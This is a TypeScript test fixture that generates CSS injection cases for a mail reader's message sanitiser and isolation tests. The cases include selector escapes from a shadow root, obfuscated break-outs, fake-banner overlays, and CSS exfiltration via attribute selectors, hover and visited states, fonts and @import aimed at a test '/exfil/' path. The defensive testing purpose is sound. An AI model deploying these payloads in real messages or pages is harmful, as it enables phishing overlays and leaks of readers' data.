/**
 * Generated attacks through message CSS (issue 16), built from parts so that the tests cover
 * classes, not a list of known examples: what to reach (the reader's controls, the shadow
 * host, the page), how to write it (escapes, comments, case, unicode), where to wrap it
 * (at-rules, nesting), how to break out of a declaration, how to cover the reader, and how to
 * send data out once remote content is allowed. Used by test/unit/isolationAttacks.test.ts
 * (every case through the sanitiser) and test/integration/isolationChromium.test.ts (in the
 * real thread page in headless Chromium).
 *
 * Every URL an attack must never load has `/exfil/` in its path; a message's own, allowed
 * background has `/own/`.
 */

export interface CssAttack {
  /** Class and a short name, e.g. `selector/.md-banner/hex/@layer`. */
  id: string;
  /** The message's HTML (a <style> block and/or style attributes and content). */
  html: string;
}

/** Every way to write an identifier so that a check on the plain text misses it. */
export function spellings(ident: string): string[] {
  const hex = (c: string): string => `\\${c.codePointAt(0)!.toString(16)} `;
  const out = [
    ident,
    ident.toUpperCase(),
    [...ident].map(hex).join(''),
    [...ident].map((c) => `\\${c.codePointAt(0)!.toString(16).padStart(6, '0')}`).join(''),
    ident.replace(/d/g, '\\64 ').replace(/m/g, '\\6d\t'),
    ident.replace(/-/g, '\\-'),
    ident.replace(/([a-z])/, '\\$1'),
    `${ident.slice(0, 2)}/**/${ident.slice(2)}`,
    `${ident.slice(0, 1)}/*}{*/${ident.slice(1)}`,
  ];
  return [...new Set(out)];
}

/** What a message's selectors may want to reach: the reader, the host, the page. */
const READER_CLASSES = ['md-banner', 'md-btn', 'md-body', 'md-part', 'md-subject', 'md-from', 'md-meta', 'md-actions', 'md-toggle', 'md-linkhint', 'md-warn', 'md-thread'];
const OUTSIDE_SELECTORS = [
  ':host',
  ':host(.md-part)',
  ':host(*) *',
  ':host-context(.md-thread)',
  ':host-context(body) p',
  '::slotted(*)',
  'div::part(x)',
  ':scope',
  ':scope > *',
  '& p',
  '&',
  'p &',
  ':has(+ .md-btn)',
  'body:has(.md-banner) p',
  ':root',
  'html',
  'body',
  ':is(html, body) > *',
  ':where(:host) p',
  ':not(p) :host',
  'body ~ div',
  'html + *',
  '*:host',
  'p:host',
  '.md-mail',
  '.md-mail.x',
  'p .md-mail',
  '[class~=md-banner]',
  '[class^="md-"]',
  '[CLASS|=md]',
  'button[data-md-action=allowSender]',
  '[role=status]',
  '#md-status',
  '#md-linkhint',
  'main > header',
  'h1',
  'h2 span',
  'dd',
  'time[datetime]',
  'button',
];

/** At-rules and nesting a selector can be wrapped in. */
const WRAPPERS: Array<(rule: string) => string> = [
  (r) => r,
  (r) => `@media all{${r}}`,
  (r) => `@media screen and (min-width:1px){@media (hover:hover){${r}}}`,
  (r) => `@supports (display:grid){${r}}`,
  (r) => `@layer base{${r}}`,
  (r) => `@layer a,b;@layer b{${r}}`,
  (r) => `@container (min-width:1px){${r}}`,
  (r) => `@scope (.md-thread){${r}}`,
  (r) => `@scope (:root) to (.md-mail){${r}}`,
  (r) => `@document url-prefix(){${r}}`,
  (r) => `@starting-style{${r}}`,
  (r) => `p{color:blue;${r}}`,
  (r) => `p{& ${r}}`,
  (r) => `@media all{p{${r}}}`,
];

const REACH_DECL = 'display:none!important;visibility:hidden;content:"Show full message";position:fixed;inset:0;z-index:2147483647;background:#fff';

/** Selectors that try to reach outside the message, spelt every way, wrapped every way. */
export function selectorAttacks(): CssAttack[] {
  const out: CssAttack[] = [];
  const targets: Array<[string, string]> = [];
  for (const c of READER_CLASSES) for (const s of spellings(c)) targets.push([`.${c}`, `.${s}`]);
  for (const sel of OUTSIDE_SELECTORS) targets.push([sel, sel]);
  // Unicode look-alikes and odd whitespace between parts.
  targets.push(['fullwidth', '.ｍｄ-banner'], ['nbsp', 'p\u00a0.md-banner'], ['escaped-colon', '\\3a host'], ['escaped-dot', '\\2e md-banner'], ['escaped-comma', 'p\\2c :host']);
  let k = 0;
  for (const [name, sel] of targets) {
    const w = WRAPPERS[k++ % WRAPPERS.length];
    const w2 = WRAPPERS[(k * 7) % WRAPPERS.length];
    out.push({ id: `selector/${name}/${sel}/w${(k - 1) % WRAPPERS.length}`, html: `<style>${w(`${sel}{${REACH_DECL}}`)}</style><p class="inside">Hello</p>` });
    out.push({ id: `selector/${name}/${sel}/list/w${(k * 7) % WRAPPERS.length}`, html: `<style>${w2(`p, ${sel} , .x{${REACH_DECL}}`)}</style><p class="inside">Hello</p>` });
  }
  return out;
}

/** Ways to end a declaration, a rule or a string early, each written several ways. */
const BREAKOUTS: Array<[string, string[]]> = [
  ['close-rule', ['}', '\\7d ', '\\00007d', '\\}', '"}"', "'\\7d'"]],
  ['open-block', ['{', '\\7b ', '\\{']],
  ['semicolon', [';', '\\3b ', '\\;', '\\00003b']],
  ['dquote', ['"', '\\22 ', '\\"', '"a\\22 b"', "'\\22'"]],
  ['squote', ["'", '\\27 ', "\\'", "'a\\27 b'", '"\\27"']],
  ['comment', ['/*', '\\2f\\2a', '"/*"', '\\2f *']],
  ['important', ['!important', '\\21 important', '! important']],
  ['backslash', ['\\5c ', '"\\5c"', '\\\\']],
  ['newline', ['\\a ', '"a\\a b"', '"a\\\nb"']],
  ['lt', ['<', '\\3c ', '"\\3c/style>"']],
  ['private-use', ['\\e000 0\\e001', '"\\e000 0\\e001"']],
];
/** What comes after the break-out: a rule of its own, or a second declaration. */
const SMUGGLED = [' :host{display:none;position:fixed} .md-banner{display:none} x{y:"', 'position:fixed;top:0;left:0;z-index:99999;x:"', '}:host{contain:none!important}p{x:"'];

/** Break-outs of one declaration value, in a <style> block and in a style attribute. */
export function valueBreakouts(): CssAttack[] {
  const out: CssAttack[] = [];
  for (const [name, forms] of BREAKOUTS) {
    for (const [fi, f] of forms.entries()) {
      for (const [si, smuggled] of SMUGGLED.entries()) {
        for (const prop of ['content', 'color', 'font-family', 'background']) {
          const v = prop === 'content' ? `"a${f.replace(/^"|"$/g, '')}${smuggled.replace(/"/g, '\\22 ')}"` : `red ${f}${smuggled}`;
          const vUrl = `url(${f}${smuggled})`;
          out.push({ id: `value/${name}/${fi}/${si}/${prop}/block`, html: `<style>p{${prop}:${v}}</style><p class="inside">Hello</p>` });
          out.push({ id: `value/${name}/${fi}/${si}/${prop}/attr`, html: `<p class="inside" style='${prop}:${v.replace(/'/g, '&#39;')}'>Hello</p>` });
          if (prop === 'background') out.push({ id: `value/${name}/${fi}/${si}/url/block`, html: `<style>p{background:${vUrl}}</style><p class="inside">Hello</p>` });
        }
      }
    }
  }
  return out;
}

/** Declarations that would draw over the reader if they ever reached outside the message box. */
const OVERLAY_DECLS = [
  'position:fixed;inset:0;z-index:2147483647;background:#fff',
  'position:FIXED;top:0;left:0;width:100vw;height:100vh',
  'position:f\\69xed;top:0',
  'position:fix/**/ed;top:0',
  'position:sticky;top:0;z-index:9999',
  'position:-webkit-sticky;top:0',
  'position:absolute;inset:-3000px -500px auto auto;width:9000px;height:9000px;z-index:2147483647;background:#fefefe',
  'position:absolute;top:-800px;left:0;width:3000px;height:3000px;z-index:99999;background:#fff',
  'margin:-2000px 0 0 -2000px;height:4000px;width:4000px;background:#fff',
  'margin-top:-99999px',
  'transform:translate(-2000px,-2000px) scale(50);transform-origin:0 0;background:#fff',
  'translate:-2000px -2000px;scale:50',
  'rotate:180deg;transform:rotate(180deg) scale(3)',
  'zoom:30',
  'filter:invert(1) blur(20px)',
  'mix-blend-mode:difference;background:#fff;width:5000px;height:5000px',
  'backdrop-filter:blur(30px) invert(1);position:absolute;inset:-2000px',
  'clip-path:inset(-5000px);position:absolute;inset:-500px;background:#fff',
  'outline:5000px solid #fff;box-shadow:0 0 0 5000px #fff',
  'z-index:2147483647;position:relative;top:-500px',
  'contain:none!important;overflow:visible!important;isolation:auto!important',
  'display:contents',
  'font:100px "y";letter-spacing:50px',
  'content:counter(md-msg) " Invoice paid";counter-reset:md-msg 999',
  'will-change:transform;perspective:1px;transform:translateZ(-5000px)',
  'inset:-1000px;position:absolute',
  'width:100000px;height:100000px',
];
const OVERLAY_TARGETS = ['html', 'body', ':root', '*', 'p', 'div', '.cover', 'p::before', 'p::after', 'body > div', ':host'];

/** Overlays, transforms, zoom and filters: through <style> on every target, and inline. */
export function overlayAttacks(): CssAttack[] {
  const out: CssAttack[] = [];
  for (const [di, d] of OVERLAY_DECLS.entries()) {
    const t = OVERLAY_TARGETS[di % OVERLAY_TARGETS.length];
    const t2 = OVERLAY_TARGETS[(di + 5) % OVERLAY_TARGETS.length];
    out.push({ id: `overlay/${di}/${t}`, html: `<style>${t}{${d}} ${t2}{${d}}</style><div class="cover">Your mailbox</div><p class="inside">Hello</p>` });
    out.push({ id: `overlay/${di}/inline`, html: `<div style="${d.replace(/"/g, '&quot;')}">Fake banner: Show full message</div><p class="inside">Hello</p>` });
  }
  return out;
}

/**
 * Exfiltration with remote content allowed: every load that depends on data the message does
 * not own (link targets, our own markers, the reader's page) or on what the reader does
 * (hover, focus, selection, visiting, window size). `base` is the allowed host's origin.
 */
export function exfilAttacks(base: string): CssAttack[] {
  const ex = (n: string): string => `${base}/exfil/${n}.png`;
  const own = (n: string): string => `${base}/own/${n}.png`;
  const out: CssAttack[] = [];
  const dataAttrs = ['title', 'href', 'data-maildesk-href', 'data-maildesk-cid', 'data-maildesk-blocked', 'src', 'alt', 'style', 'datetime', 'aria-label', 'data-md-action', 'id', 'name'];
  const ops = ['=', '^=', '$=', '*=', '~=', '|='];
  const flags = ['', ' i', ' s', ' I'];
  let n = 0;
  for (const a of dataAttrs) {
    for (const spelled of spellings(a).slice(0, 4)) {
      const op = ops[n % ops.length];
      const flag = flags[n % flags.length];
      const sel = [`a[${spelled}${op}"https://bank"${flag}]`, `[${spelled}${op}t${flag}]`, `:has([${spelled}${op}"7"${flag}]) p`, `p:not([${spelled}${op}x${flag}])`][n % 4];
      const prop = ['background', 'background-image', 'list-style-image', 'border-image-source', 'content'][n % 5];
      out.push({ id: `exfil/attr/${a}/${n}`, html: `<style>${sel}{${prop}:url(${ex(`attr-${n}`)})}</style><p class="inside">Hello <a href="https://bank.example.test/reset?token=7">x</a></p>` });
      n++;
    }
  }
  const dynamic = [
    'p:hover', 'a:visited', 'a:link:visited', 'p:focus', 'p:focus-within', 'p:focus-visible', 'p:active', 'p:target', ':is(p:hover) b', 'p:not(:hover)', 'p:has(:hover)', 'p::selection',
    'p:hover::before', 'a:any-link:hover', ':where(p:hover)', 'p:HOVER', 'p:h\\6fver', 'p:hov/**/er',
  ];
  for (const [i, sel] of dynamic.entries()) {
    const prop = ['background', 'background-image', 'list-style', 'border-image', 'content', 'list-style-image'][i % 6];
    out.push({ id: `exfil/dynamic/${sel}`, html: `<style>${sel}{${prop}:url(${ex(`dyn-${i}`)})}</style><p class="inside" tabindex="0">Hello <a href="https://bank.example.test/">b</a></p>` });
  }
  const media = ['(min-width:10px)', '(prefers-color-scheme:dark)', '(prefers-color-scheme:light)', 'print', 'screen and (hover:hover)', '(orientation:landscape)', '(min-resolution:1dppx)', 'all'];
  for (const [i, q] of media.entries()) out.push({ id: `exfil/media/${q}`, html: `<style>@media ${q}{p{background:url(${ex(`media-${i}`)})}}</style><p class="inside">Hello</p>` });
  const wrappers = ['@supports (display:grid)', '@container (min-width:10px)', '@layer x', '@scope (p)', '@starting-style'];
  for (const [i, w] of wrappers.entries()) out.push({ id: `exfil/wrap/${w}`, html: `<style>${w}{p{background:url(${ex(`wrap-${i}`)})}}</style><p class="inside">Hello</p>` });
  const loaders = [
    `background:image-set(url(${ex('imgset')}) 1x, url(${ex('imgset2')}) 2x)`,
    `background:-webkit-image-set(url(${ex('wimgset')}) 1x)`,
    `background:image-set("${ex('imgset-str')}" 1x)`,
    `cursor:url(${ex('cursor')}),auto`,
    `cursor:url(${ex('cursor2')}) 2 2,pointer`,
    `mask:url(${ex('mask')})`,
    `mask-image:url(${ex('mask-image')})`,
    `-webkit-mask-image:url(${ex('wmask')})`,
    `-webkit-mask-box-image:url(${ex('wmaskbox')})`,
    `filter:url(${ex('filter')}#f)`,
    `clip-path:url(${ex('clip')}#c)`,
    `shape-outside:url(${ex('shape')})`,
    `border-image:url(${ex('border-var')}) var(--x)`,
    `background:cross-fade(url(${ex('xfade')}),url(${ex('xfade2')}),50%)`,
    `background:element(#x)`,
    `background:src("${ex('src')}")`,
    `background:paint(x)`,
    `background:url(${ex('attr')}) attr(title url)`,
  ];
  for (const [i, d] of loaders.entries()) {
    out.push({ id: `exfil/loader/${i}/block`, html: `<style>p{${d}}</style><p class="inside">Hello</p>` });
    out.push({ id: `exfil/loader/${i}/attr`, html: `<p class="inside" style="${d.replace(/"/g, '&quot;')}">Hello</p>` });
  }
  // Fonts: a font that exists only for some characters leaks the text it draws.
  out.push({
    id: 'exfil/font-face/unicode-range',
    html: `<style>@font-face{font-family:leak;src:url(${ex('font-a')});unicode-range:U+0041}@font-face{font-family:leak;src:url(${ex('font-b')}) format("woff");unicode-range:U+0042}p,dd,a{font-family:leak}</style><p class="inside">ABC</p>`,
  });
  out.push({ id: 'exfil/font-face/name-collision', html: `<style>@font-face{font-family:codicon;src:url(${ex('codicon')})}p{font-family:codicon}</style><p class="inside">Hello</p>` });
  out.push({ id: 'exfil/keyframes', html: `<style>@keyframes md-x{from{background:url(${ex('kf')})}}p{animation:md-x 1s}</style><p class="inside">Hello</p>` });
  out.push({ id: 'exfil/property', html: `<style>@property --x{syntax:"<url>";inherits:true;initial-value:url(${ex('prop')})}p{background:var(--x)}</style><p class="inside">Hello</p>` });
  out.push({ id: 'exfil/import', html: `<style>@import url(${ex('import')});@import "${ex('import2')}" layer(x);@namespace url(${ex('ns')});</style><p class="inside">Hello</p>` });
  out.push({ id: 'exfil/inherit-var', html: `<style>p{background:var(--vscode-editor-background, url(${ex('var')}))}</style><p class="inside">Hello</p>` });
  // The message's own, unconditional backgrounds: the loads that must happen (one with its url() escaped).
  out.push({ id: 'own/background', html: `<style>p.mine{background:url(${own('bg')})}</style><p class="inside mine">Hello</p>` });
  out.push({ id: 'own/escaped-url', html: `<p class="inside" style="background-image:\\75\\72\\6c(${own('escaped')})">Hello</p>` });
  return out;
}

/** All of the above, with `base` as the allowed remote origin. */
export function allCssAttacks(base: string): CssAttack[] {
  return [...selectorAttacks(), ...valueBreakouts(), ...overlayAttacks(), ...exfilAttacks(base)];
}
